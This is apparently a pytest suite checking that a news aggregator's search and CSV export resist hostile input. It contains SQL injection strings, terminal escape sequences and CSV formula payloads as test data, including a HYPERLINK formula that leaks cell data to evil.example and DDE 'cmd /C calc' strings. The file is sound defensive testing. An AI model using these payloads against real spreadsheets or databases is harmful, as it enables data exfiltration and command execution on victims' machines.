"""`aggregator search` and `export` with hostile input: safe results or one error line."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from sqlalchemy import text

from aggregator.cli.main import main
from aggregator.items import ArticleItem
from aggregator.storage.db import make_engine
from aggregator.storage.writer import BatchWriter
from tests.reliability.helpers import assert_one_line_error, cli, env
from tests.scorecard import record
from tests.storage.dbs import require_pg

pytestmark = pytest.mark.timeout(120)

T0 = dt.datetime(2026, 1, 20, 3, 0, tzinfo=dt.UTC)
#: Titles a spreadsheet would run as formulas (OWASP CSV injection).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
            "\r=1+1"]  # fmt: skip
BODY = "Banjir besar melanda kawasan pesisir utara Jakarta sejak Rabu malam, warga mengungsi."
ORDINALS = ("pertama", "kedua", "ketiga", "keempat", "kelima", "keenam", "ketujuh", "kedelapan")


def _items() -> list[ArticleItem]:
    """One article per hostile title, plus two ordinary ones."""
    titles = [*FORMULAS, "Banjir Rob di Jakarta Utara", "Harga Beras Naik"]
    return [
        ArticleItem(url=f"https://warta.example.id/berita/{n}", source="warta", title=title,
                    body=f"{BODY} Laporan {ORDINALS[n]}." if n != len(titles) - 1 else
                    "Harga beras medium naik di pasar tradisional.",
                    fetched_at=T0, published_at=T0 - dt.timedelta(hours=n),
                    authors=["=Penulis Jahat"] if n == 0 else ["Rina"])
        for n, title in enumerate(titles)
    ]  # fmt: skip


def _fill(url: str, folder: Path) -> str:
    """Store `_items()` through the real writer; returns `url`."""
    writer = BatchWriter(url, dead_letter=folder / "dead.jsonl")
    writer.open()
    writer.write_batch(_items())
    if writer.engine is not None:
        writer.engine.dispose()
    return url


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres",
                                                               marks=pytest.mark.postgres)])
def db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The hostile titles stored in SQLite, then in a fresh PostgreSQL schema."""
    folder = tmp_path_factory.mktemp("clidb")
    if request.param == "sqlite":
        yield _fill(f"sqlite:///{folder / 'a.db'}", folder)
        return
    admin = require_pg()
    schema = "rel_" + uuid.uuid4().hex[:12]
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute(f'CREATE SCHEMA "{schema}"')
    sep = "&" if "?" in admin else "?"
    try:
        yield _fill(f"{admin}{sep}options=-csearch_path%3D{schema}", folder)
    finally:
        with psycopg.connect(admin, autocommit=True) as conn:
            conn.execute(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')


def _count(url: str) -> int:
    """Rows in `articles` (the tables survived every payload)."""
    engine = make_engine(url)
    try:
        with engine.connect() as conn:
            return int(conn.execute(text("SELECT count(*) FROM articles")).scalar_one())
    finally:
        engine.dispose()


def _search(db: str, query: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """`aggregator search QUERY` in-process (fast); (exit status, stdout, stderr)."""
    code = main(["search", query, "--db", db, "--format", "json", "--limit", "50"])
    out, err = capsys.readouterr()
    return code, out, err


#: hostile query -> the plain query it must behave exactly like, or "error" (one line).
QUERIES = {
    "' OR 1=1 --": '"1 1"',  # quote, `=` and dashes are not syntax: `(nothing) OR "1 1"`
    "banjir' OR '1'='1": 'banjir OR "1 1"',
    "banjir) OR (1": "banjir OR 1",
    "NEAR(banjir pesisir)": "near banjir pesisir",  # `near` is just a word here
    "title:beras": "title beras",  # no column filters
    "beras -banjir": "beras NOT banjir",  # -word excludes, as NOT does
    "{title body}: beras": "title body beras",
    "banj*": "banj*",
    '"; DROP TABLE articles; --': "error",  # unbalanced double quote
    '"banjir': "error",
    "%": "error",  # no words at all
    "_": "error",
    "\\": "error",
    "*": "error",
    "x" * 10_000: "error",  # over the length cap
}


@pytest.mark.parametrize(("query", "plain"), list(QUERIES.items()), ids=range(len(QUERIES)))
def test_search_injection(db: str, query: str, plain: str,
                          capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    code, out, err = _search(db, query, capsys)
    if plain == "error":
        _one_line_error(code, err)
    else:
        assert code == 0, err
        expected_code, expected, _ = _search(db, plain, capsys)
        assert expected_code == 0
        got = {h["url"] for h in json.loads(out)}
        assert got == {h["url"] for h in json.loads(expected)}
        assert len(got) < len(FORMULAS) + 2  # not "every row": nothing was injected
    assert _count(db) == len(FORMULAS) + 2  # tables intact
    record("search", "injection payload", backend=db.split(":", 1)[0],
           outcome="one-line error" if plain == "error" else "same as literal words",
           wrong_counts=0, tables_intact=True)  # fmt: skip


def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """`aggregator ARGS` in-process: (exit status, stdout, stderr)."""
    code = main(args)
    out, err = capsys.readouterr()
    return code, out, err


def _one_line_error(code: int, err: str) -> str:
    """Nonzero status and exactly one `error: ...` line on stderr; returns it."""
    assert code != 0
    assert "Traceback" not in err
    assert err.startswith("error: "), err
    assert err.count("\n") == 1, err
    return err


@pytest.mark.slow
@pytest.mark.parametrize("query", ['"; DROP TABLE articles; --', "x" * 10_000])
def test_search_errors_in_a_real_process(db: str, query: str) -> None:
    assert_one_line_error(cli("search", query, "--db", db))


@pytest.mark.parametrize(("query", "plain"), [
    ("banjir\x00", "banjir"), ("ban\x00jir' OR 1=1", '"ban jir" OR "1 1"'),
    ("\ud800banjir", "banjir"), ("banjir\u202e\u200b", "banjir"),
])  # fmt: skip
def test_search_nul_and_surrogates(db: str, query: str, plain: str,
                                   capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    # A shell cannot pass NUL or lone surrogates; the in-process entry point must cope anyway.
    code, out, err = _search(db, query, capsys)
    assert code == 0, err
    _, expected, _ = _search(db, plain, capsys)
    assert {h["url"] for h in json.loads(out)} == {h["url"] for h in json.loads(expected)}


def test_csv_formulas_are_neutralised(db: str, tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    proc = cli("export", "--db", db, "--format", "csv", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    titles = {r["title"] for r in rows}
    for formula in FORMULAS:
        assert "'" + formula in titles
    authors = {r["authors"] for r in rows}
    assert "'=Penulis Jahat" in authors  # list cells too
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_search_csv_neutralises_formulas(db: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = _run(["search", "banjir", "--db", db, "--format", "csv", "--limit", "50"],
                          capsys)  # fmt: skip
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert {r["title"] for r in rows} == {"'" + f for f in FORMULAS} | {
        "Banjir Rob di Jakarta Utara"}
    for row in rows:
        assert not row["title"].startswith(("=", "+", "-", "@", "\t", "\r")), row["title"]


@pytest.mark.parametrize("target", ["/proc/version/out.csv", "/proc/out.csv",
                                    "{tmp}/missing-dir/out.csv", "{tmp}", ""])  # fmt: skip
def test_export_to_unwritable_path(db: str, tmp_path: Path, target: str,
                                   capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    out = target.format(tmp=tmp_path)
    _one_line_error(*_run(["export", "--db", db, "--format", "csv", "--out", out], capsys)[::2])
    assert list(tmp_path.iterdir()) == []  # no partial or temporary file left behind


@pytest.mark.slow
def test_export_error_in_a_real_process(db: str) -> None:
    assert_one_line_error(cli("export", "--db", db, "--out", "/proc/version/out.jsonl"))


@pytest.mark.parametrize(("args", "needle"), [
    (["export", "--format", "parquet", "--out", "-"], "parquet"),
    (["export", "--out", "x.jsonl", "--since", "' OR 1=1"], "date"),
    (["search", "banjir", "--limit", "0"], "limit"),
    (["search", "banjir", "--limit", "100000000000000000000"], "limit"),
    (["search", "banjir", "--since", "2026-13-45"], "date"),
])  # fmt: skip
def test_bad_options_are_one_line(db: str, args: list[str], needle: str,
                                  capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    line = _one_line_error(*_run([*args, "--db", db], capsys)[::2])
    assert needle in line


@pytest.mark.parametrize("content", [b"not a database at all\n" * 100, b"\x00" * 4096])
def test_search_on_a_file_that_is_not_a_database(tmp_path: Path, content: bytes,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "fake.db"
    path.write_bytes(content)
    _one_line_error(*_run(["search", "banjir", "--db", f"sqlite:///{path}"], capsys)[::2])
    assert path.read_bytes() == content  # reading never rewrites the file


def test_search_leaves_an_empty_file_alone(tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "empty.db"
    path.write_bytes(b"")
    _one_line_error(*_run(["search", "banjir", "--db", f"sqlite:///{path}"], capsys)[::2])
    assert path.read_bytes() == b""


def test_search_table_prints_no_terminal_escapes(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path / 'esc.db'}"
    writer = BatchWriter(url, dead_letter=tmp_path / "dead.jsonl")
    writer.open()
    writer.write_batch([ArticleItem(
        url="https://warta.example.id/berita/esc", source="warta", fetched_at=T0,
        title="Banjir \x1b]0;pwned\x07 \x1b[2J Merah", body=BODY, authors=["\x1b[5mRina"])])
    code, out, err = _run(["search", "banjir", "--db", url], capsys)
    assert code == 0, err
    assert "Banjir" in out
    assert "\x1b" not in out
    assert "\x07" not in out


@pytest.mark.parametrize("option", ["--source", "--author", "--tag"])
def test_search_filter_with_invalid_utf8_is_one_line(db: str, option: str) -> None:
    """Bytes from a shell that are not UTF-8 (issue 12, item 8): one line, exit 2."""
    proc = subprocess.run([sys.executable, "-m", "aggregator.cli.main", "search", "banjir",
                           "--db", db, option, b"kompas\xff\xfe"], capture_output=True,
                          text=True, timeout=60, check=False, env=env())  # fmt: skip
    line = assert_one_line_error(proc)
    assert proc.returncode == 2
    assert option in line
    assert "UTF-8" in line
